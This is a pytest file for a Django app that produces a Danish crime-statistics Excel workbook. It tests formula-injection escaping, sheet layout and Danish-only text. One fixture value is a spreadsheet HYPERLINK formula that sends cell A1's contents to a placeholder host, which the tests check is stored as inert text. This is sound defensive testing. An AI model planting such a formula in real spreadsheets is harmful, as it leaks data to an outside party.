"""The key-figure workbook: free text never becomes a formula, sheets read well, Danish throughout."""
import io
import re
from datetime import date

import openpyxl
import pytest

from crimestats.periods import quarter_period
from crimestats.sections import GRIDS, TABLES
from crimestats.services import addendum_save, report_generate, report_request

from .factories import CrimeTypeFactory, event, rode

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")'
# English that the Danish workbook used to carry, and the ISO dates it wrote
ENGLISH = re.compile(r"\b(against|Difference|Label|This period|Same period|Count|Above threshold|Grid column|"
                     r"Municipalit|Uneasy|Figure|Value|SYNTHETIC|Incomplete|reports|cases and incidents)\b")
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


@pytest.fixture
def workbook(municipality, straf11, coordinator):
    """A produced Q3 2025 report whose free text (crime type, location, SSP's assessment) is a formula."""
    vold = CrimeTypeFactory(code="VOLD-X", label="@SUM(1+1)", straf11_code="12", person_dangerous=True)
    for d in (date(2025, 7, 1), date(2025, 8, 1), date(2024, 7, 5), date(2024, 7, 6), date(2024, 7, 7)):
        event(municipality, on=d, crime_type=vold, area=rode("1"), location="=1+1")
    addendum_save(municipality=municipality, year=2025, quarter=3, user=coordinator, interrogations_12_17=12,
                  ssp_single_cases=30, ssp_assessment=ATTACK)
    report = report_request(municipality=municipality, period=quarter_period(2025, 3), user=coordinator)
    report = report_generate(report_id=report.pk)
    return openpyxl.load_workbook(io.BytesIO(bytes(report.xlsx)))


def _cells(wb):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_free_text_in_the_workbook_is_text_and_numbers_stay_numbers(workbook):
    by_value = {}
    for c in _cells(workbook):
        by_value.setdefault(c.value, []).append(c)
    assert not [c for c in _cells(workbook) if c.data_type == "f"]  # no formula anywhere
    for text in (ATTACK, "=1+1", "@SUM(1+1)"):
        assert by_value[text] and all(c.data_type == "s" and c.quotePrefix for c in by_value[text]), text
    change = workbook.worksheets[0]  # reports by type: 2 now against 3 last year
    row = next(r for r in change.iter_rows() if r[0].value == "Vold")
    assert (row[3].value, row[3].data_type, row[4].value, row[4].data_type) == (-1, "n", -33.3, "n")


def test_sheets_have_short_whole_word_names_the_full_title_in_a1_frozen_headers_and_autofilters(workbook):
    names = workbook.sheetnames
    assert len(names) == len(TABLES) + len(GRIDS) + 3 and len({n.casefold() for n in names}) == len(names)
    # a sheet name says "area": a municipality without bydele has the same sheets (the title in A1 says bydel)
    assert names[:2] == ["1 Anmeldelser efter type", "2 Anmeldelser efter område"]
    assert all(len(n) <= 31 for n in names)
    for ws, (_key, title) in zip(workbook.worksheets, TABLES, strict=False):
        assert ws["A1"].value == str(title) and ws["A1"].font.bold
    for ws in workbook.worksheets:
        header = int(ws.freeze_panes[1:]) - 1
        assert ws.auto_filter.ref.startswith(f"A{header}:"), ws.title
        assert all(c.font.bold for c in ws[header] if c.value is not None)
        widths = [ws.column_dimensions[col].width for col in "ABC"]
        assert all(8 <= w <= 60 for w in widths), ws.title
    first = workbook.worksheets[0]
    header = int(first.freeze_panes[1:]) - 1
    assert first[header][2].value == "Samme periode sidste år"
    assert first.column_dimensions["C"].width >= len("Samme periode sidste år")  # fitted, not a fixed 13
    total = first.cell(row=first.max_row, column=1).value
    assert total == "I alt" and int(first.auto_filter.ref.split(":")[1][1:]) == first.max_row - 1


def test_the_danish_workbook_is_danish_throughout_with_danish_dates(workbook):
    texts = [c.value for c in _cells(workbook) if isinstance(c.value, str)]
    assert [t for t in texts if ENGLISH.search(t)] == []
    assert [t for t in texts if ISO_DATE.search(t)] == []
    assert any("(1. juli 2025 – 30. september 2025) sammenlignet med 1. juli 2024 – 30. september 2024" in t
               for t in texts)
